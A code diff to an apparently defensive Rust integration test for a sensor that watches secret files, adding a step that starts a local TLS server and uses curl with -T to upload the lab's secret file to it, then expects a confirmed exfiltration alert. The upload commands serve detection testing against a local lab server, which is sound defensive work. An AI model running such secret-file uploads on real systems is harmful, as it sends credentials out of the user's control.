@@ -9,6 +9,7 @@ use std::fs;
 use anyhow::{ensure, Context, Result};
 use integration_tests::ecs_schema::{self, Definitions, FieldsTable};
 use integration_tests::host_tools::{self, quoted};
+use integration_tests::remote_server::{certificate, Server};
 use integration_tests::sensor::Documents;
 use integration_tests::{actor_exe, alert, Lab, Sensor, ALERT_TIMEOUT};
 use serde_json::Value;
@@ -36,9 +37,9 @@ const KINDS: [&str; 11] = [
     "sensor-stopped",
 ];
 
-/// A secret file read directly, through a pipe and through a derived file, sent out, then
-/// replaced: `sensor-started`, `secret-read`, `secret-derived`, the alert and its progress,
-/// `watch-updated`, `sensor-stopped`.
+/// A secret file read directly, through a pipe and through a derived file, sent out (its value
+/// too, over TLS), then replaced: `sensor-started`, `secret-read`, `secret-derived`, the alerts
+/// (plain and confirmed) and a progress report, `watch-updated`, `sensor-stopped`.
 fn file_secret_documents() -> Result<Vec<Value>> {
     let lab = Lab::new(actor_exe!())?;
     let mut sensor = lab.sensor()?;
@@ -59,6 +60,15 @@ fn file_secret_documents() -> Result<Vec<Value>> {
     sensor.expect(|line| action(line) == Some("secret-derived"), ALERT_TIMEOUT)?;
     let upload = host_tools::curl_upload(&copy, dest)?;
     sensor.expect(alert::is_exfiltration_by(upload), ALERT_TIMEOUT)?;
+
+    // The secret's value itself in a TLS upload: the confirmed alert.
+    let server = Server::start(&lab, Some(&certificate(lab.dir())?))?;
+    let secret = lab.secret().display().to_string();
+    let https = format!("https://{}/", server.addr);
+    let tls =
+        host_tools::run("curl", &["-sSk", "-o", "/dev/null", "--max-time", "10", "-T", &secret, &https])?;
+    sensor.expect(alert::is_confirmed_by(tls), ALERT_TIMEOUT)?;
+    server.received()?;
 
     let replacement = lab.dir().join(".credentials.tmp");
     fs::write(&replacement, "rotated = not-a-real-key\n")?;
